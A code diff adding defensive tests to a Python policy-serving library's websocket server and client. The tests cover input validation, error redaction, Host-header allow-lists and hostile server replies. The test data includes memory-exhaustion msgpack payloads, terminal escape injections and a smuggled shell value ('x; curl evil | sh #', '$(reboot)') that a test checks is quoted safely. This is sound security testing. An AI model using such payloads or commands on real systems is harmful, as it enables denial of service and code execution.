@@ -2,22 +2,28 @@
 
 from __future__ import annotations
 
+import json
 import os
+import shlex
 import signal
 import socket
+import struct
 import subprocess
 import sys
 import threading
 import time
 import traceback
+import urllib.error
 import urllib.request
 from collections.abc import Callable, Iterator, Sequence
 from concurrent.futures import ThreadPoolExecutor
-from contextlib import contextmanager
+from contextlib import contextmanager, suppress
 from dataclasses import replace
+from functools import reduce
 from pathlib import Path
 from typing import Any
 
+import msgpack
 import numpy as np
 import psutil
 import pytest
@@ -37,6 +43,7 @@ from manyarms.policies.remote import RemotePolicy
 from manyarms.rollout import Runner
 from manyarms.serving.server import PolicyServer, ServerConfig
 from manyarms.simulators.base import Spec
+from manyarms.workers.wire import encode
 from rollouts import Swaying, fingerprint
 from standins import Walker
 
@@ -57,7 +64,11 @@ class Slow(Swaying):
         if "choke" in observations.texts:
             raise ValueError("I cannot swallow this")
         self.seen += observations.episodes
-        return super().act(observations)
+        chunk = super().act(observations)
+        for i, text in enumerate(observations.texts):
+            if text in ("nan", "inf"):
+                chunk.actions[""][i, -1, 0] = float(text)
+        return chunk
 
 
 def served(policy: Policy, **settings: Any) -> PolicyServer:
@@ -197,8 +208,13 @@ BAD = {
     "observation field 'position' is missing": raw(position=None),
     "observation field 'position' is (3,)": raw(position=np.zeros(3)),
     "observation field 'position' is (2,) float32": raw(position=np.zeros(2, np.float32)),
-    "observation field 'clock' is () <U4": raw(clock="noon"),
-    "observation field 'objects' is no array": raw(objects=[1, [2, 3]]),
+    "observation field 'clock' is no () array": raw(clock="noon"),
+    "observation field 'position' has values that are not finite": raw(position=np.array([np.nan, 0.0])),
+    "'position' has values that are not finite": raw(position=[0.5, float("inf")]),
+    "'position' has values that are": raw(position=np.array([0.0, -np.inf])),
+    "'step' must be a number of actions below": {**raw(), "step": 2**63},
+    "'prompt' must not be longer than": {**raw(), "prompt": "x" * 100_001},
+    "observation field 'objects' is no (5,) array of float32": raw(objects=[1, [2, 3]]),
     "'prompt' must be text": {**raw(), "prompt": 3},
     "'step' must be": {**raw(), "step": -1},
     "'episode' must be a dict": {**raw(), "episode": {"sed": 1}},
@@ -233,12 +249,106 @@ def test_one_clients_observation_cannot_fail_anothers() -> None:
         remotes = [RemotePolicy(SPEC, port=server.port) for _ in range(4)]
         texts = ["go", "go", "choke", "go"]
         answers = [pool.submit(remote.act, one_row(text=text)) for remote, text in zip(remotes, texts, strict=True)]
-        with pytest.raises(RolloutError, match="I cannot swallow this"):
+        with pytest.raises(RolloutError, match="the policy failed"):
             answers[2].result()
         for i in (0, 1, 3):
             assert same(answers[i].result(), Swaying().act(one_row()))
         for remote in remotes:
             remote.close()
+
+
+@pytest.mark.parametrize("text", ["nan", "inf"])
+def test_actions_that_are_not_finite_are_an_error_of_that_client_alone(text: str) -> None:
+    policy = Slow(seconds=0.1)
+    with served(policy) as server, ThreadPoolExecutor(3) as pool:
+        remotes = [RemotePolicy(SPEC, port=server.port) for _ in range(3)]
+        texts = ["go", text, "go"]
+        answers = [pool.submit(remote.act, one_row(text=text)) for remote, text in zip(remotes, texts, strict=True)]
+        with pytest.raises(RolloutError, match="actions that are not finite"):
+            answers[1].result()
+        for i in (0, 2):
+            assert same(answers[i].result(), Swaying().act(one_row()))
+        for remote in remotes:
+            remote.close()
+    assert max(policy.batches) > 1, "or nobody shared a batch"
+
+
+class Untidy(Swaying):
+    """Fails with what a server must keep to itself, and with what would steer a terminal."""
+
+    def act(self, observations: Observations) -> ActionChunk:
+        raise FileNotFoundError(2, "No such file \x1b]0;owned\x07", "/srv/secret/weights.safetensors")
+
+
+def test_what_goes_wrong_in_a_policy_is_told_to_its_owner_and_not_to_its_clients(
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    with served(Untidy()) as server, connect(server.url) as connection:
+        connection.recv()
+        answer = asked(connection, raw())
+    said = capfd.readouterr().err
+    assert isinstance(answer, str)
+    assert answer.startswith("RolloutError: the policy failed")
+    assert "FileNotFoundError" in answer
+    assert "/" not in answer
+    assert "Traceback" not in answer
+    assert "/srv/secret/weights.safetensors" in said
+    assert "Traceback" in said
+    assert "\x1b" not in said
+
+
+def depth(count: int) -> bytes:
+    return b"\x91" * count + b"\xc0"
+
+
+def claim(count: int) -> bytes:
+    """Return arrays in each other, each of which claims to be long."""
+    return (b"\xdd" + struct.pack(">I", 2**32 - 1)) * count
+
+
+def identity(init_state: Any, blobs: bytes = b"") -> bytes:
+    """Return an episode's identity as a client of ours writes it, except that it may be wrong."""
+    text = json.dumps({"init_state": init_state}).encode()
+    return struct.pack("<I", len(text)) + text + blobs
+
+
+def array_of(dtype: str, shape: list[int], data: bytes = b"") -> dict[Any, Any]:
+    return {b"__ndarray__": True, b"data": data, b"dtype": dtype, b"shape": shape}
+
+
+TRAPS = {
+    "deep": depth(5000),
+    "deep fields": msgpack.packb(reduce(lambda inner, _: {"a": inner}, range(900), 1)),
+    "claims": claim(500),
+    "claims a map": b"\xdf" + b"\xff" * 4,
+    "a million maps": b"\xdd" + struct.pack(">I", 3_000_000) + b"\x80" * 3_000_000,
+    "long and short texts": msgpack.packb({"position": ["x" * 2_000_000, *[""] * 60_000]}),
+    "objects": msgpack.packb({"position": array_of("|O", [1], bytes(8))}),
+    "records": msgpack.packb({"position": array_of("f4,f4", [1], bytes(8))}),
+    "many axes": msgpack.packb({"position": array_of("<f4", [2**63 - 1] * 50_000)}),
+    "a broadcast": msgpack.packb({"position": array_of("<U999999999", [0])}),
+    "an extension": msgpack.packb({"position": msgpack.ExtType(5, b"x")}),
+    "an endless name": msgpack.packb({"x" * 3_000_000: 1}),
+    "an identity of nothing many times": pack(raw(episode=identity({"~a": ["<U0", [0, 0], [10**9]]}))),
+    "an identity of the same many times": pack(
+        raw(episode=identity([{"~b": [0, 1_000_000]}] * 3000, bytes(1_000_000)))
+    ),
+    "an identity of what is not there": pack(raw(episode=identity({"~b": [-5, 10]}, bytes(10)))),
+    "an identity without end": msgpack.packb({"episode": encode({"init_state": 1})[:4] + b"[" * 100_000}),
+}
+
+
+@pytest.mark.parametrize("trap", TRAPS)
+def test_messages_that_are_traps_are_refused_in_a_few_words(trap: str) -> None:
+    before = psutil.Process().memory_info().vms
+    with served(Swaying()) as server, connect(server.url) as connection:
+        connection.recv()
+        answer = asked(connection, TRAPS[trap])
+        assert isinstance(answer, str)
+        assert answer.startswith("ConfigError: ")
+        assert len(answer) < 3000
+        assert asked(connection, raw())["actions"].shape == (4, 2)
+    assert psutil.Process().memory_info().vms - before < 2**31
 
 
 def test_long_messages_are_split_and_too_long_ones_refused() -> None:
@@ -259,6 +369,137 @@ def test_web_pages_are_kept_out_and_health_is_told() -> None:
         assert urllib.request.urlopen(server.url.replace("ws", "http") + "/healthz", timeout=60).read() == b"OK\n"
         with pytest.raises(Exception, match="403"), connect(server.url, additional_headers={"Origin": "http://a.page"}):
             pass
+
+
+def status(server: PolicyServer, **headers: str) -> int:
+    asked = urllib.request.Request(server.url.replace("ws", "http") + "/healthz", headers=headers)
+    try:
+        return urllib.request.urlopen(asked, timeout=60).status
+    except urllib.error.HTTPError as error:
+        return error.code
+
+
+@pytest.mark.parametrize("host", ["evil.example", "evil.example:8000", "localhost.evil.example", "10.0.0.1", "["])
+def test_a_server_answers_to_its_own_names_only(host: str) -> None:
+    with served(Swaying()) as server:
+        assert status(server, Host=host) == 403
+        for own in ("localhost", "LOCALHOST:1", "127.0.0.1:8000", "[::1]:8000", f"127.0.0.1:{server.port}"):
+            assert status(server, Host=own) == 200
+        with pytest.raises(Exception, match="403"):
+            connect(
+                f"ws://{host.partition(':')[0].strip('[') or 'x'}:1",
+                sock=socket.create_connection(("127.0.0.1", server.port)),
+            )
+
+
+def test_a_server_answers_to_the_names_it_is_given() -> None:
+    with served(Swaying(), allowed_hosts=("Policy.Example", "other")) as server:
+        assert [status(server, Host=host) for host in ("policy.example:80", "other", "third")] == [200, 200, 403]
+    with served(Swaying(), allowed_hosts=("*",)) as server:
+        assert status(server, Host="third") == 200
+
+
+def test_a_server_for_all_knows_addresses_and_its_own_name() -> None:
+    with served(Swaying(), host="0.0.0.0") as server:
+        names = ("192.168.1.5:6007", socket.gethostname(), "[fe80::1]:80", "evil.example")
+        assert [status(server, Host=host) for host in names] == [200, 200, 200, 403]
+
+
+def test_a_client_that_calls_a_server_by_a_wrong_name_is_told_what_to_do(monkeypatch: pytest.MonkeyPatch) -> None:
+    with served(Swaying()) as server:
+        found = socket.create_connection
+        monkeypatch.setattr(socket, "create_connection", lambda address, *rest: found(("127.0.0.1", server.port)))
+        with pytest.raises(ConfigError, match=r"--allowed-hosts policy\.example"):
+            RemotePolicy(SPEC, host="policy.example", port=server.port)
+
+
+# -- servers that are strangers ---------------------------------------------------------------------------------------
+
+
+@contextmanager
+def stranger(first: Any, answer: Any = None) -> Iterator[int]:
+    """Serve what nobody would expect."""
+
+    def handle(connection: ServerConnection) -> None:
+        with suppress(ConnectionClosed):
+            connection.send(first if isinstance(first, bytes) else pack(first))
+            for _ in connection:
+                connection.send(answer if isinstance(answer, str) else pack(answer))
+
+    with serve(handle, "127.0.0.1", 0, compression=None, max_size=None) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        try:
+            yield server.socket.getsockname()[1]
+        finally:
+            server.shutdown()
+            thread.join()
+
+
+def about(**changes: Any) -> dict[str, Any]:
+    """Return what a server of ours says of itself."""
+    found = PolicyServer(Swaying(), SPEC)._metadata(4)
+    return {name: value for name, value in {**found, **changes}.items() if value is not ...}
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"chunk": "many"},
+        {"chunk": -1},
+        {"fields": 3},
+        {"fields": ["position"]},
+        {"fields": {"position": 1}},
+        {"fields": {"position": {"shape": "x", "dtype": "<f8"}}},
+        {"fields": {"position": {"shape": [2], "dtype": "O"}}},
+        {"fields": {"position": {"shape": [2], "dtype": []}}},
+        {"max_message": "all"},
+        {"max_message": 0},
+        {"needs": 7},
+    ],
+    ids=str,
+)
+def test_what_a_stranger_says_of_itself_is_checked(changes: dict[str, Any]) -> None:
+    with stranger(about(**changes)) as port, pytest.raises((ConfigError, RolloutError), match="server"):
+        RemotePolicy(SPEC, port=port)
+
+
+def answer(**changes: Any) -> dict[str, Any]:
+    return {"batch": [{"actions": np.zeros((4, 2)), **changes}]}
+
+
+@pytest.mark.parametrize(
+    "answered",
+    [
+        answer(actions=np.full((4, 2), np.nan)),
+        answer(actions=[["a", "b"]] * 4),
+        answer(actions=[[1, 2], [3]]),
+        answer(values="high"),
+        answer(values=[1, [2]]),
+        {"batch": [3]},
+        {"batch": [{}]},
+        {"batch": {}},
+        {"batch": [{"actions": np.zeros((4, 2)), 7: 1}]},
+        "\x1b]0;owned\x07" * 100_000,
+    ],
+    ids=lambda answered: str(answered)[:60].encode("unicode_escape").decode(),
+)
+def test_what_a_stranger_answers_is_checked(answered: Any) -> None:
+    with stranger(about(), answered) as port:
+        remote = RemotePolicy(SPEC, port=port)
+        with pytest.raises(RolloutError, match="server") as caught:
+            remote.act(one_row())
+        assert len(str(caught.value)) < 5000
+        assert "\x1b" not in str(caught.value)
+        remote.close()
+
+
+def test_what_a_stranger_advises_cannot_be_more_than_an_option() -> None:
+    needs = {"x; curl evil | sh #": "$(reboot)"}
+    other = Spec({"position": SPEC.observations["position"]}, SPEC.actions)
+    with stranger(about(needs=needs)) as port, pytest.raises(ConfigError) as caught:
+        RemotePolicy(other, port=port)
+    assert shlex.split(caught.value.do)[-1] == "x; curl evil | sh #=$(reboot)"
 
 
 # -- servers that go --------------------------------------------------------------------------------------------------
